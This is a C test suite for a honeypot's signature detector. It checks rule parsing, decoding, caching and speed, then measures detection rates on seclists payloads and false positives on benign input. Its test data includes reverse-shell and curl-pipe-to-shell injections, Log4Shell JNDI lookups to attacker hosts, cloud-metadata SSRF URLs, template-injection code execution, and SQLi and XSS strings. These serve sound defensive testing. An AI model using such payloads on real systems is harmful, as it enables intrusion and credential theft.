/* Specification of the signature detector (src/honeypot/detect_signature.c, rules in
 * data/signatures.rules): the rules file format and its errors, how values are matched (where,
 * decoding, one hit per class, limits), detection rates on the seclists payloads and no hits on
 * benign input. The lists are read from ../shared/datasets/seclists, beside the repository. */
#include <criterion/criterion.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "honeypot/signature.h"

#define FUZZING "../shared/datasets/seclists/Fuzzing/"
#define NAUGHTY FUZZING "big-list-of-naughty-strings.txt"

static sig_rules *builtin;

static void load_builtin(void)
{
    char err[512];
    builtin = sig_rules_compile(mitsu_signature_rules, strlen(mitsu_signature_rules), "built-in",
                                err, sizeof err);
    cr_assert_not_null(builtin, "%s", err);
}

static void free_builtin(void)
{
    sig_rules_free(builtin);
}

static uint32_t bit(const char *cls)
{
    uint32_t b = sig_rules_class_bit(builtin, cls);
    cr_assert(b, "no class %s", cls);
    return b;
}

static uint32_t hits(enum sig_kind kind, const char *v)
{
    return sig_match(builtin, kind, v, strlen(v));
}

/* ---- Reading lists ------------------------------------------------------------------------ */

typedef struct lines {
    char **v;
    size_t n;
} lines;

/* The lines of a list, without blank lines and "# " comments (a '#' glued to text is data:
 * "#{7*7}"). */
static lines read_list(const char *path)
{
    FILE *f = fopen(path, "r");
    cr_assert_not_null(f, "%s: cannot open (the seclists data set belongs beside the repository)",
                       path);
    lines l = {NULL, 0};
    char *line = NULL;
    size_t cap = 0;
    ssize_t n;
    while ((n = getline(&line, &cap, f)) > 0) {
        while (n && (line[n - 1] == '\n' || line[n - 1] == '\r'))
            line[--n] = '\0';
        if (!n || (line[0] == '#' && (n == 1 || line[1] == ' ' || line[1] == '\t')))
            continue;
        l.v = realloc(l.v, (l.n + 1) * sizeof *l.v);
        l.v[l.n++] = strdup(line);
    }
    free(line);
    fclose(f);
    return l;
}

static void free_lines(lines *l)
{
    for (size_t i = 0; i < l->n; i++)
        free(l->v[i]);
    free(l->v);
}

/* The share of lines of a list that hit one of the class bits, as a value of that kind; logged,
 * with the misses when MITSU_SIG_VERBOSE is set. */
static double rate_of(const char *path, enum sig_kind kind, uint32_t bits)
{
    lines l = read_list(path);
    size_t hit = 0;
    for (size_t i = 0; i < l.n; i++) {
        if (sig_match(builtin, kind, l.v[i], strlen(l.v[i])) & bits)
            hit++;
        else if (getenv("MITSU_SIG_VERBOSE"))
            cr_log_info("  missed: %.150s", l.v[i]);
    }
    double rate = l.n ? 100.0 * (double)hit / (double)l.n : 0;
    cr_log_info("%-55s %5zu/%-5zu %5.1f%%", strstr(path, "Fuzzing/") ? strstr(path, "Fuzzing/") + 8
                                                                     : path,
                hit, l.n, rate);
    free_lines(&l);
    return rate;
}

static double rate(const char *file, const char *cls)
{
    return rate_of(file, SIG_ARG, cls ? bit(cls) : UINT32_MAX);
}

/* Every value of a list must not hit; those that do are logged. Returns how many hit. */
static size_t benign(const char *const *v, size_t n, enum sig_kind kind)
{
    size_t bad = 0;
    for (size_t i = 0; i < n; i++) {
        uint32_t h = sig_match(builtin, kind, v[i], strlen(v[i]));
        if (h) {
            bad++;
            for (unsigned c = 0; c < SIG_CLASSES_MAX; c++)
                if (h & (1u << c))
                    cr_log_error("false positive (%s, %s): %s", sig_kind_names[kind],
                                 sig_rules_class(builtin, c), v[i]);
        }
    }
    return bad;
}

#define COUNT(a) (sizeof(a) / sizeof((a)[0]))

/* A rules file in a temporary place; the path is static, overwritten by the next call. */
static const char *rules_file(const char *text)
{
    static char path[64];
    snprintf(path, sizeof path, "/tmp/mitsu-sig-XXXXXX");
    int fd = mkstemp(path);
    cr_assert(fd >= 0);
    cr_assert_eq(write(fd, text, strlen(text)), (ssize_t)strlen(text));
    close(fd);
    return path;
}

static sig_rules *load_text(const char *text, char *err, size_t errlen)
{
    const char *path = rules_file(text);
    sig_rules *r = sig_rules_load(path, err, errlen);
    unlink(path);
    return r;
}

static void rejected(const char *text, const char *line_and_message)
{
    char err[512] = "";
    const char *path = rules_file(text);
    sig_rules *r = sig_rules_load(path, err, sizeof err);
    unlink(path);
    cr_assert_null(r, "accepted: %s", text);
    char want[600];
    snprintf(want, sizeof want, "%s:%s", path, line_and_message);
    cr_assert(strstr(err, want), "got \"%s\", want \"%s...\"", err, want);
}

/* ---- The rules file ------------------------------------------------------------------------- */

TestSuite(rules, .init = load_builtin, .fini = free_builtin);

Test(rules, builtin_rules_compile_with_every_class)
{
    cr_log_info("built-in: %zu rules, %zu classes", sig_rules_count(builtin),
                sig_rules_nclasses(builtin));
    cr_assert_geq(sig_rules_count(builtin), 70);
    static const char *const classes[] = {"sqli", "xss", "traversal", "cmdi", "ssti",
                                          "log4shell", "ssrf", "scanner", "xxe"};
    for (size_t i = 0; i < COUNT(classes); i++)
        cr_assert(sig_rules_class_bit(builtin, classes[i]), "no class %s", classes[i]);
}

Test(rules, comments_blank_lines_crlf_and_where_lists_load)
{
    char err[512];
    sig_rules *r = load_text("# a comment\n"
                             "\n"
                             "   # an indented comment\n"
                             "sqli 1 args,cookies \\bunion\\s+select\\b\r\n"
                             "xss\t2\tany\t<script   \n"
                             "scanner 3 agent \\bnikto\\b",
                             err, sizeof err);
    cr_assert_not_null(r, "%s", err);
    cr_assert_eq(sig_rules_count(r), 3);
    cr_assert_eq(sig_rules_nclasses(r), 3);
    cr_assert_str_eq(sig_rules_class(r, 0), "sqli");
    const char *v = "1 UNION SELECT 2";
    cr_assert_eq(sig_match(r, SIG_ARG, v, strlen(v)), sig_rules_class_bit(r, "sqli"));
    cr_assert_eq(sig_match(r, SIG_COOKIE, v, strlen(v)), sig_rules_class_bit(r, "sqli"));
    cr_assert_eq(sig_match(r, SIG_PATH, v, strlen(v)), 0, "not where it says");
    /* trailing blanks are not part of the regex */
    cr_assert(sig_match(r, SIG_ARG, "<SCRIPT>", 8));
    sig_rules_free(r);
}

Test(rules, a_bad_regex_is_an_error_naming_file_and_line)
{
    rejected("# ok\nsqli 1 any union\nxss 2 any <(script\n", "3: bad regex at offset");
}

Test(rules, other_bad_lines_are_errors_with_their_line)
{
    rejected("sqli 1 everywhere x\n", "1: bad WHERE 'everywhere'");
    rejected("sqli 1 args,\n", "1: bad WHERE");
    rejected("\nsqli one args x\n", "2: bad rule id 'one'");
    rejected("sqli 0 args x\n", "1: bad rule id");
    rejected("sqli 7 args x\nxss 7 args y\n", "2: rule id 7 already used on line 1");
    rejected("sqli 1 args\n", "1: no regex");
    rejected("SQLi 1 args x\n", "1: bad class 'SQLi'");
    rejected("# nothing\n\n", " no rules");
}

Test(rules, more_than_32_classes_is_an_error)
{
    char text[4096] = "";
    for (int i = 0; i < 33; i++)
        snprintf(text + strlen(text), sizeof text - strlen(text), "c%d %d any x%d\n", i, i + 1,
                 i);
    rejected(text, "33: more than 32 classes");
}

Test(rules, a_missing_file_is_an_error)
{
    char err[512];
    cr_assert_null(sig_rules_load("/nonexistent/rules", err, sizeof err));
    cr_assert(strstr(err, "/nonexistent/rules: cannot open"), "%s", err);
}

/* ---- Matching ------------------------------------------------------------------------------- */

TestSuite(match, .init = load_builtin, .fini = free_builtin);

Test(match, a_rule_applies_only_where_it_says)
{
    char err[512];
    sig_rules *r = load_text("a 1 agent foo\nb 2 names bar\nc 3 headers baz\n"
                             "d 4 path,cookies qux\n",
                             err, sizeof err);
    cr_assert_not_null(r, "%s", err);
    cr_assert_eq(sig_match(r, SIG_AGENT, "foo", 3), 1u << 0);
    cr_assert_eq(sig_match(r, SIG_ARG, "foo", 3), 0);
    cr_assert_eq(sig_match(r, SIG_HEADER, "foo", 3), 0, "agent is the User-Agent only");
    cr_assert_eq(sig_match(r, SIG_NAME, "bar", 3), 1u << 1);
    cr_assert_eq(sig_match(r, SIG_ARG, "bar", 3), 0);
    cr_assert_eq(sig_match(r, SIG_HEADER, "baz", 3), 1u << 2);
    cr_assert_eq(sig_match(r, SIG_AGENT, "baz", 3), 1u << 2, "the User-Agent is a header too");
    cr_assert_eq(sig_match(r, SIG_PATH, "qux", 3), 1u << 3);
    cr_assert_eq(sig_match(r, SIG_COOKIE, "qux", 3), 1u << 3);
    cr_assert_eq(sig_match(r, SIG_ARG, "qux", 3), 0);
    sig_rules_free(r);
}

Test(match, a_class_counts_once_per_request)
{
    arena a;
    arena_init(&a, 4096);
    sig_scan s;
    cr_assert_eq(sig_scan_init(&s, builtin, &a), 0);
    const char *v1 = "1' UNION SELECT password FROM users--", *v2 = "' or '1'='1",
               *v3 = "<script>alert(1)</script>";
    cr_assert_eq(sig_scan_value(&s, SIG_ARG, 1, v1, strlen(v1)), bit("sqli"));
    cr_assert_eq(sig_scan_value(&s, SIG_ARG, 1, v2, strlen(v2)), 0, "sqli has hit already");
    cr_assert_eq(sig_scan_value(&s, SIG_COOKIE, 0, v1, strlen(v1)), 0);
    cr_assert_eq(sig_scan_value(&s, SIG_ARG, 1, v3, strlen(v3)), bit("xss"), "another class");
    cr_assert_eq(s.classes, bit("sqli") | bit("xss"));
    cr_assert_gt(s.rule_id[__builtin_ctz(bit("sqli"))], 1000);
    arena_free(&a);
}

Test(match, values_are_percent_decoded_up_to_three_times)
{
    uint32_t trav = bit("traversal");
    cr_assert(hits(SIG_PATH, "/static/%2e%2e/%2e%2e/etc/passwd") & trav);
    cr_assert(hits(SIG_PATH, "/static/%252e%252e%252f%252e%252e%252fetc%252fpasswd") & trav);
    cr_assert(hits(SIG_ARG, "%25252e%25252e%25252f%25252e%25252e%25252f") & trav);
    cr_assert(hits(SIG_COOKIE, "%3Cscript%3Ealert(1)%3C%2Fscript%3E") & bit("xss"));
    /* '+' is a space in parameters, not in paths */
    cr_assert(hits(SIG_ARG, "1'+or+'1'='1") & bit("sqli"));
    cr_assert_eq(hits(SIG_PATH, "/c++/a+b"), 0);
}

Test(match, html_character_references_are_decoded)
{
    cr_assert(hits(SIG_ARG, "<a href=\"&#106;avascript&colon;alert(1)\">x</a>") & bit("xss"));
    cr_assert(hits(SIG_ARG, "<a href=\"j&Tab;ava&#x73;cript:alert(1)\">") & bit("xss"));
    cr_assert_eq(hits(SIG_ARG, "Fish &amp; chips &lt;3 &#8364;5"), 0);
}

Test(match, only_the_first_8_kib_of_a_value_is_examined)
{
    static char v[SIG_VALUE_MAX + 64];
    memset(v, 'a', sizeof v);
    memcpy(v + 100, "<script>", 8);
    cr_assert(sig_match(builtin, SIG_ARG, v, sizeof v) & bit("xss"));
    memset(v, 'a', sizeof v);
    memcpy(v + SIG_VALUE_MAX + 8, "<script>", 8);
    cr_assert_eq(sig_match(builtin, SIG_ARG, v, sizeof v), 0);
}

Test(match, a_catastrophic_rule_is_cut_by_the_match_limit)
{
    char err[512];
    sig_rules *r = load_text("redos 1 args ^(?:a|aa)+$\n", err, sizeof err);
    cr_assert_not_null(r, "%s", err);
    static char v[4096];
    memset(v, 'a', sizeof v);
    v[sizeof v - 1] = 'b';
    arena a;
    arena_init(&a, 4096);
    sig_scan s;
    sig_scan_init(&s, r, &a);
    clock_t t0 = clock();
    cr_assert_eq(sig_scan_value(&s, SIG_ARG, 0, v, sizeof v), 0);
    double secs = (double)(clock() - t0) / CLOCKS_PER_SEC;
    cr_assert_gt(s.errors, 0, "the limit was not reached");
    cr_assert_lt(secs, 1.0, "took %.2f s", secs);
    arena_free(&a);
    sig_rules_free(r);
}

/* The loader cuts rules into their top-level alternatives and matches rules that start alike as
 * one alternation: every value must hit exactly the classes the rules hit one by one, whole. */
Test(match, cutting_and_grouping_rules_changes_no_verdict)
{
    const char *text = mitsu_signature_rules;
    sig_rules *one[256];
    uint32_t cls[256];
    size_t n = 0;
    for (const char *p = text; *p;) {
        const char *nl = strchr(p, '\n');
        size_t len = nl ? (size_t)(nl - p) : strlen(p);
        char line[8192];
        if (len && p[0] != '#' && len < sizeof line - 16) {
            /* "CLASS ID WHERE REGEX" -> "CLASS ID WHERE (?:REGEX)": one branch, alone */
            char c[40], where[64];
            int off = 0;
            unsigned id;
            cr_assert_eq(sscanf(p, "%39s %u %63s %n", c, &id, where, &off), 3);
            snprintf(line, sizeof line, "%s %u %s (?:%.*s)\n", c, id, where, (int)len - off,
                     p + off);
            char err[512];
            cr_assert_lt(n, COUNT(one));
            one[n] = sig_rules_compile(line, strlen(line), "one", err, sizeof err);
            cr_assert_not_null(one[n], "%s", err);
            cls[n++] = bit(c);
        }
        p += len + (nl != NULL);
    }
    static const char *const lists[] = {NAUGHTY, FUZZING "XSS/XSS-Jhaddix.txt",
                                        FUZZING "XSS/XSS-BruteLogic.txt",
                                        FUZZING "SQLi/Generic-SQLi.txt",
                                        FUZZING "LFI/LFI-Jhaddix.txt",
                                        FUZZING "UnixAttacks.fuzzdb.txt",
                                        FUZZING "Windows-Attacks.fuzzdb.txt"};
    size_t values = 0;
    for (size_t f = 0; f < COUNT(lists); f++) {
        lines l = read_list(lists[f]);
        for (size_t i = 0; i < l.n; i++)
            for (int k = 0; k < SIG_KIND__MAX; k++) {
                uint32_t want = 0;
                for (size_t j = 0; j < n; j++)
                    if (sig_match(one[j], (enum sig_kind)k, l.v[i], strlen(l.v[i])))
                        want |= cls[j];
                uint32_t got = sig_match(builtin, (enum sig_kind)k, l.v[i], strlen(l.v[i]));
                cr_assert_eq(got, want, "%s as %s: %#x, rule by rule %#x", l.v[i],
                             sig_kind_names[k], got, want);
                values++;
            }
        free_lines(&l);
    }
    cr_log_info("%zu values, %zu rules: same verdicts", values, n);
    for (size_t j = 0; j < n; j++)
        sig_rules_free(one[j]);
}

/* path + 3 query parameters (names and values) + User-Agent, single thread. */
Test(match, a_typical_request_costs_a_few_microseconds)
{
    static const char *const names[] = {"q", "category", "page"};
    static const char *const values[] = {"red running shoes", "sports & outdoors", "2"};
    const char *path = "/products/search";
    const char *ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like "
                     "Gecko) Chrome/120.0.0.0 Safari/537.36";
    arena a;
    arena_init(&a, 16384);
    enum { N = 20000 };
    struct timespec t0, t1;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    for (int i = 0; i < N; i++) {
        sig_scan s;
        sig_scan_init(&s, builtin, &a);
        uint32_t h = sig_scan_value(&s, SIG_PATH, 0, path, strlen(path));
        h |= sig_scan_value(&s, SIG_AGENT, 0, ua, strlen(ua));
        for (int k = 0; k < 3; k++) {
            h |= sig_scan_value(&s, SIG_NAME, 0, names[k], strlen(names[k]));
            h |= sig_scan_value(&s, SIG_ARG, 1, values[k], strlen(values[k]));
        }
        cr_assert_eq(h, 0);
        arena_reset(&a);
    }
    clock_gettime(CLOCK_MONOTONIC, &t1);
    double ns = ((double)(t1.tv_sec - t0.tv_sec) * 1e9 + (double)(t1.tv_nsec - t0.tv_nsec)) / N;
    cr_log_info("typical request: %.0f ns (%zu rules)", ns, sig_rules_count(builtin));
    cr_assert_lt(ns, 1e6, "a millisecond per request");
    arena_free(&a);
}

/* Bytes a scan of v matched: 0 when the value came from the clean cache. */
static size_t scanned_bytes(enum sig_kind kind, const char *v)
{
    arena a;
    arena_init(&a, 4096);
    sig_scan s;
    sig_scan_init(&s, builtin, &a);
    cr_assert_eq(sig_scan_value(&s, kind, 0, v, strlen(v)), 0);
    arena_free(&a);
    return s.bytes;
}

Test(match, clean_values_sent_again_are_not_scanned_again)
{
    cr_assert_gt(scanned_bytes(SIG_PATH, "/first/time/seen"), 0);
    cr_assert_eq(scanned_bytes(SIG_PATH, "/first/time/seen"), 0, "a path, from the cache");
    cr_assert_eq(scanned_bytes(SIG_AGENT, "Mozilla/5.0 (X11; Linux x86_64)") > 0, 1);
    cr_assert_eq(scanned_bytes(SIG_AGENT, "Mozilla/5.0 (X11; Linux x86_64)"), 0);
    cr_assert_gt(scanned_bytes(SIG_ARG, "red shoes"), 0);
    cr_assert_gt(scanned_bytes(SIG_ARG, "red shoes"), 0, "arguments are not cached");
}

/* The thread answers the value of a kind it found clean last by one comparison: a different
 * value of the same length is still scanned, and an attack in it still found. */
Test(match, the_last_clean_value_answers_only_for_itself)
{
    const char *benign = "Mozilla/5.0 (X11) A", *tool = "sqlmap/1.4.7#stable";
    cr_assert_eq(strlen(benign), strlen(tool));
    scanned_bytes(SIG_AGENT, benign);
    cr_assert_eq(scanned_bytes(SIG_AGENT, benign), 0, "from the cache");
    arena a;
    arena_init(&a, 4096);
    sig_scan s;
    sig_scan_init(&s, builtin, &a);
    cr_assert_neq(sig_scan_value(&s, SIG_AGENT, 0, tool, strlen(tool)), 0, "a scanner's agent");
    arena_free(&a);
    cr_assert_eq(scanned_bytes(SIG_AGENT, benign), 0);
}

/* Among 65 values two share a set of the 64: with one way they would evict each other on every
 * request (a browser's path and cookie, say), costing a full scan each time. */
Test(match, any_two_values_sent_in_turn_stay_cached)
{
    enum { N = 65 };
    char v[N][32];
    for (int i = 0; i < N; i++)
        snprintf(v[i], sizeof v[i], "/page/%d/view", i);
    for (int i = 0; i < N; i++)
        for (int j = i + 1; j < N; j++) {
            scanned_bytes(SIG_PATH, v[i]);
            scanned_bytes(SIG_PATH, v[j]);
            cr_assert_eq(scanned_bytes(SIG_PATH, v[i]), 0, "%s after %s", v[i], v[j]);
            cr_assert_eq(scanned_bytes(SIG_PATH, v[j]), 0, "%s after %s", v[j], v[i]);
        }
}

/* ---- Detection on the seclists payloads ------------------------------------------------------ */

TestSuite(detect, .init = load_builtin, .fini = free_builtin);

Test(detect, sql_injection)
{
    cr_expect_geq(rate(FUZZING "Databases/sqli.auth.bypass.txt", "sqli"), 95);
    cr_expect_geq(rate(FUZZING "Databases/MySQL-SQLi-Login-Bypass.fuzzdb.txt", "sqli"), 95);
    cr_expect_geq(rate(FUZZING "SQLi/Generic-BlindSQLi.fuzzdb.txt", "sqli"), 95);
    cr_expect_geq(rate(FUZZING "Polyglots/SQLi-Polyglots.txt", "sqli"), 95);
    /* quick-SQLi holds bare quote pairs ('-', " "); Generic-SQLi bare keywords (update, asc,
     * limit, select) and characters, which no rule can take for an attack. */
    cr_expect_geq(rate(FUZZING "SQLi/quick-SQLi.txt", "sqli"), 85);
    cr_expect_geq(rate(FUZZING "SQLi/Generic-SQLi.txt", "sqli"), 70);
    cr_expect_geq(rate(FUZZING "Databases/NoSQL.txt", "sqli"), 85);
}

Test(detect, cross_site_scripting)
{
    cr_expect_geq(rate(FUZZING "XSS/XSS-Cheat-Sheet-PortSwigger.txt", "xss"), 99);
    cr_expect_geq(rate(FUZZING "XSS/XSS-BruteLogic.txt", "xss"), 95);
    cr_expect_geq(rate(FUZZING "XSS/XSS-Jhaddix.txt", "xss"), 92);
    cr_expect_geq(rate(FUZZING "XSS/XSS-RSNAKE.txt", "xss"), 92);
    cr_expect_geq(rate(FUZZING "XSS/XSS-Somdev.txt", "xss"), 95);
    cr_expect_geq(rate(FUZZING "Polyglots/XSS-Polyglots.txt", "xss"), 95);
    cr_expect_geq(rate(FUZZING "Polyglots/XSS-Polyglots-Dmiessler.txt", "xss"), 95);
    /* JavaScript written without its words: (alert)(1), top["al"+"ert"](1) ... */
    cr_expect_geq(rate(FUZZING "XSS/XSS-Bypass-Strings-BruteLogic.txt", "xss"), 85);
}

Test(detect, path_traversal_and_file_inclusion)
{
    cr_expect_geq(rate(FUZZING "LFI/LFI-Jhaddix.txt", "traversal"), 90);
    cr_expect_geq(rate(FUZZING "LFI/LFI-LFISuite-pathtotest.txt", "traversal"), 95);
    cr_expect_geq(rate(FUZZING "LFI/LFI-gracefulsecurity-linux.txt", "traversal"), 90);
    cr_expect_geq(rate(FUZZING "LFI/LFI-gracefulsecurity-windows.txt", "traversal"), 95);
}

Test(detect, command_injection)
{
    cr_expect_geq(rate(FUZZING "command-injection-commix.txt", "cmdi"), 99);
    static const char *const more[] = {
        "; id", "| whoami", "`id`", "$(whoami)", "x;cat /etc/passwd", "&& wget http://x.example/s",
        "| nc 10.0.0.1 4444 -e /bin/sh", "; bash -c 'id'", "; ping -c 3 127.0.0.1",
        "a;/usr/bin/id", "() { :;}; /bin/bash -c 'cat /etc/passwd'", "x%0aid",
        "; curl http://x.example/a | sh", "$(sleep 5)", "|| sleep 10 ||",
        "${IFS}cat${IFS}/etc/passwd",
        "system('id')", "<?php system($_GET['c']); ?>", "__import__('os').system('id')",
    };
    for (size_t i = 0; i < COUNT(more); i++)
        cr_expect(hits(SIG_ARG, more[i]) & bit("cmdi"), "missed: %s", more[i]);
}

Test(detect, template_injection_and_server_side_includes)
{
    cr_expect_geq(rate(FUZZING "template-engines-expression.txt", "ssti"), 90);
    cr_expect_geq(rate(FUZZING "SSI-Injection-Jhaddix.txt", "ssti"), 95);
    static const char *const more[] = {
        "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{7*'7'}}", "{{config}}",
        "{{config.items()}}",
        "{{self.__init__.__globals__}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>",
        "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
    };
    for (size_t i = 0; i < COUNT(more); i++)
        cr_expect(hits(SIG_ARG, more[i]) & bit("ssti"), "missed: %s", more[i]);
}

Test(detect, log4shell_and_its_obfuscations)
{
    static const char *const payloads[] = {
        "${jndi:ldap://attacker.example/a}", "${jndi:rmi://203.0.113.5:1099/obj}",
        "${jndi:dns://x.oast.example}", "${jndi:ldaps://x.example/a}", "${ jndi:ldap://x/a}",
        "${jNdI:lDaP://x/a}", "${${lower:j}ndi:ldap://x/a}",
        "${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://x/a}",
        "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x/a}",
        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}",
        "${j${k8s:k5:-ND}i:ldap://x/a}", "${j${::-n}di:ldap://x/a}",
        "${${lower:jndi}:${lower:rmi}://x/a}", "${jndi:${lower:l}${lower:d}a${lower:p}://x/a}",
        "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x/a}",
        "${${base64:JHtqbmRpOmxkYXA6Ly94L2F9}}", "$%7Bjndi:ldap://x/a%7D",
        "%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D", "${jndi:ldap://${env:USER}.x.oast.example/a}",
        "${jndi:ldap://${sys:java.version}.x/a}", "${java:version}", "${sys:user.name}",
        "${${sys:sun.cpu.isalist}jndi:ldap://x/a}", "\\u0024{jndi:ldap://x/a}",
    };
    size_t hit = 0;
    for (size_t i = 0; i < COUNT(payloads); i++) {
        int h = (hits(SIG_HEADER, payloads[i]) & bit("log4shell")) != 0;
        cr_expect(h, "missed: %s", payloads[i]);
        hit += (size_t)h;
    }
    cr_log_info("log4shell: %zu/%zu", hit, COUNT(payloads));
}

Test(detect, ssrf_to_cloud_metadata)
{
    static const char *const payloads[] = {
        "http://169.254.169.254/latest/meta-data/",
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://100.100.100.200/latest/meta-data/", "http://[fd00:ec2::254]/latest/meta-data/",
        "http://2852039166/latest/meta-data/", "http://0xa9fea9fe/", "http://0251.0376.0251.0376/",
        "http://[::ffff:a9fe:a9fe]/", "http://169.254.170.2/v2/credentials",
        "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
        "http://instance-data/latest/meta-data/", "gopher://169.254.169.254:80/_GET%20/",
        "http%3A%2F%2F169.254.169.254%2F", "http://user@169.254.169.254/",
    };
    for (size_t i = 0; i < COUNT(payloads); i++)
        cr_expect(hits(SIG_ARG, payloads[i]) & bit("ssrf"), "missed: %s", payloads[i]);
    cr_expect(hits(SIG_PATH, "/latest/meta-data/iam/security-credentials/") & bit("ssrf"));
}

Test(detect, scanner_user_agents)
{
    static const char *const agents[] = {
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
        "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "gobuster/3.6",
        "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
        "Wfuzz/3.1.0", "Fuzz Faster U Fool v2.1.0-dev",
        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
        "Mozilla/5.0 zgrab/0.x", "Mozilla/5.0 (compatible; Acunetix Web Vulnerability Scanner)",
        "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0) Nessus",
        "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 21.4.4)", "w3af.org", "Mozilla/4.0 (Hydra)",
        "feroxbuster/2.10.1", "WhatWeb/0.5.5",
        "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
        "Mozilla/5.0 (compatible; BurpSuite)", "Burp Collaborator", "Arachni/v1.5.1",
        "commix/v3.8-stable (https://commixproject.com)", "Mozilla/5.0 (compatible; Netsparker)",
        "Mozilla/5.0 (Windows; U; Windows NT 5.1; en-US) ZmEu", "dirsearch/0.4.3",
        "Mozilla/5.0 (compatible; Qualys WAS)", "Mozilla/5.0 (X11; Linux x86_64) Jorgee",
    };
    for (size_t i = 0; i < COUNT(agents); i++)
        cr_expect(hits(SIG_AGENT, agents[i]) & bit("scanner"), "missed: %s", agents[i]);
    cr_assert_eq(hits(SIG_ARG, "sqlmap tutorial") & bit("scanner"), 0, "agent rules only");
}

Test(detect, xml_external_entities)
{
    cr_expect_geq(rate(FUZZING "XXE-Fuzzing.txt", NULL), 75);
}

/* The same payloads wherever they come: path, cookies, headers, parameter names. */
Test(detect, payloads_are_found_in_every_place)
{
    struct {
        enum sig_kind kind;
        const char *v;
        const char *cls;
    } cases[] = {
        {SIG_PATH, "/item/1'%20OR%20'1'='1", "sqli"},
        {SIG_PATH, "/search/%3Cscript%3Ealert(1)%3C%2Fscript%3E", "xss"},
        {SIG_PATH, "/..%2f..%2f..%2fetc/passwd", "traversal"},
        {SIG_PATH, "/static/..;/..;/WEB-INF/web.xml", "traversal"},
        {SIG_COOKIE, "' UNION SELECT username, password FROM users--", "sqli"},
        {SIG_COOKIE, "..%2F..%2F..%2Fetc%2Fpasswd", "traversal"},
        {SIG_HEADER, "${jndi:ldap://x.example/a}", "log4shell"},
        {SIG_HEADER, "https://example.com/?q=<script>alert(1)</script>", "xss"},
        {SIG_AGENT, "() { :;}; /bin/bash -c \"wget http://x.example/s\"", "cmdi"},
        {SIG_AGENT, "Mozilla/5.0' AND SLEEP(5)-- -", "sqli"},
        {SIG_NAME, "user[$ne]", "sqli"},
        {SIG_NAME, "<svg onload=alert(1)>", "xss"},
    };
    for (size_t i = 0; i < COUNT(cases); i++)
        cr_expect(hits(cases[i].kind, cases[i].v) & bit(cases[i].cls), "missed %s in %s: %s",
                  cases[i].cls, sig_kind_names[cases[i].kind], cases[i].v);
}

/* ---- False positives ------------------------------------------------------------------------ */

TestSuite(benign, .init = load_builtin, .fini = free_builtin);

/* The naughty strings list, by its sections: those of benign strings (unicode, quotes, numbers,
 * emoji, Scunthorpe, RTL, zalgo...) must never hit; the attack sections are counted apart. */
Test(benign, naughty_strings_hit_only_in_their_attack_sections)
{
    static const char *const attack[] = {"Script Injection", "SQL Injection",
                                         "Server Code Injection", "Command Injection",
                                         "XXE Injection", "File Inclusion", "Known CVEs"};
    FILE *f = fopen(NAUGHTY, "r");
    cr_assert_not_null(f, NAUGHTY);
    char prev[8192] = "", line[8192];
    int in_attack = 0;
    size_t nbenign = 0, nattack = 0, attack_hits = 0, false_hits = 0;
    while (fgets(line, sizeof line, f)) {
        line[strcspn(line, "\r\n")] = '\0';
        /* A section title is a comment line followed by a bare "#". */
        if (strcmp(line, "#") == 0 && prev[0] == '#') {
            const char *title = prev + 1 + strspn(prev + 1, " \t");
            in_attack = 0;
            for (size_t i = 0; i < COUNT(attack); i++)
                in_attack |= strncmp(title, attack[i], strlen(attack[i])) == 0;
        }
        memcpy(prev, line, sizeof prev);
        if (!line[0] || line[0] == '#')
            continue;
        uint32_t h = hits(SIG_ARG, line);
        if (in_attack) {
            nattack++;
            attack_hits += h != 0;
        } else {
            nbenign++;
            if (h) {
                false_hits++;
                cr_log_error("false positive: %s", line);
            }
        }
    }
    fclose(f);
    cr_log_info("naughty strings: benign sections %zu/%zu hit; attack sections %zu/%zu (%.1f%%)",
                false_hits, nbenign, attack_hits, nattack,
                100.0 * (double)attack_hits / (double)nattack);
    cr_assert_gt(nbenign, 200);
    cr_assert_eq(false_hits, 0);
    cr_expect_geq(100.0 * (double)attack_hits / (double)nattack, 90);
}

Test(benign, passwords_and_user_names_never_hit)
{
#define SECLISTS "../shared/datasets/seclists/"
    static const char *const files[] = {
        SECLISTS "Passwords/Common-Credentials/10-million-password-list-top-1000.txt",
        SECLISTS "Passwords/Common-Credentials/best1050.txt",
        SECLISTS "Usernames/cirt-default-usernames.txt",
    };
    for (size_t i = 0; i < COUNT(files); i++)
        cr_expect_eq(rate_of(files[i], SIG_ARG, UINT32_MAX), 0);
}

Test(benign, what_people_type_into_forms_never_hits)
{
    static const char *const values[] = {
        /* names */
        "O'Brien", "D'Angelo", "Seán O'Connor", "Mary-Jane Watson", "José Müller-Lüdenscheidt",
        "Zoë D'Arcy-Smith", "van der Berg", "Nguyễn Văn A", "李小龙", "O'Neil & Sons Ltd.",
        "Dr. Herman I. Libshitz", "Jean-Luc Picard (Capt.)", "Renée O'Hara-Smith, PhD",
        /* prose with SQL, shell and template words */
        "Select your union representative", "The union will select a new leader on Friday",
